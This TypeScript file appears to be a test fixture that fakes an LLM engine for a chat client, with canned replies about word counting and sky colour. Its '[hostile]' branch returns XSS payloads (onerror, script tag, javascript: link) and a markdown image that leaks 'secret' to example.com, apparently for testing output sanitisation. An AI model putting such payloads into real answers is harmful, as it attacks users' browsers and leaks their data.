// What the fake engine says.

import type { ChatCompletionRequest } from "wisp-llm";

const CODE = `Here is a small function that counts words, without regard to case:

\`\`\`python
from collections import Counter
import re


def count_words(text: str, *, longest_first: bool = False) -> list[tuple[str, int]]:
    """Words of a text and how often each occurs, the most frequent ones first, ties in alphabetical order."""
    words = re.findall(r"[^\\W\\d_]+(?:['’][^\\W\\d_]+)*", text.casefold())
    counts = Counter(words)
    return sorted(counts.items(), key=lambda item: (-item[1], -len(item[0]) if longest_first else 0, item[0]))


if __name__ == "__main__":
    for word, count in count_words("The cat and the hat and the bat"):
        print(f"{count:>4}  {word}")
\`\`\`

Three things are worth a look:

1. **\`casefold\`** instead of \`lower\`: it also treats *ß* and *ss* alike.
2. The pattern keeps apostrophes *inside* words, so that “don’t” is one word.
3. Sorting by a tuple puts frequent words first and breaks ties by name.

| input | words | time |
|---|---:|---:|
| a page | 412 | 0.2 ms |
| a novel | 98,310 | 41 ms |
| a library, read from a slow disk over a network | 120,004,311 | 58 s |

> A regular expression is fine here; for other languages than English, use a tokenizer.
`;

const PLAIN = `Sunlight holds all colours. On its way through the air it meets molecules, which are much smaller than the length of its waves, and these **scatter short waves far more than long ones**: blue light about four times as much as red.

So blue comes to your eyes from everywhere in the sky, while the rest goes straight on. At sunset the way through the air is long, most of the blue is scattered aside, and what is left looks red.`;

export function answerTo(asked: string, body: ChatCompletionRequest): string {
  if (asked.includes("[request]")) return `\`\`\`json\n${JSON.stringify(body)}\n\`\`\``;
  if (asked.includes("[hostile]")) {
    return `<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script> ![pixel](https://example.com/p.png?q=secret) [click](javascript:alert(1))`;
  }
  if (asked.includes("[long]")) return `${PLAIN}\n\n`.repeat(40);
  return /python|code|function/i.test(asked) ? CODE : PLAIN;
}
